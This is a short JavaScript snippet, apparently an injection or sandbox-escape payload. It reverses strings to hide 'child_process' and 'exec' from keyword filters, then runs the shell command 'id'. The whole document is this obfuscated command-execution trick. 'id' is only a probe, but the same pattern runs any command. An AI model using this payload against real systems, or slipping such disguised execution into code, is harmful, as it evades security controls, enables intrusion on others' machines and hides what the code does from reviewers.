const back = (s) => s.split('').reduce((acc, c) => c + acc, '');
const m = require(back('ssecorp_dlihc'));
m[back('cexe')]('id');
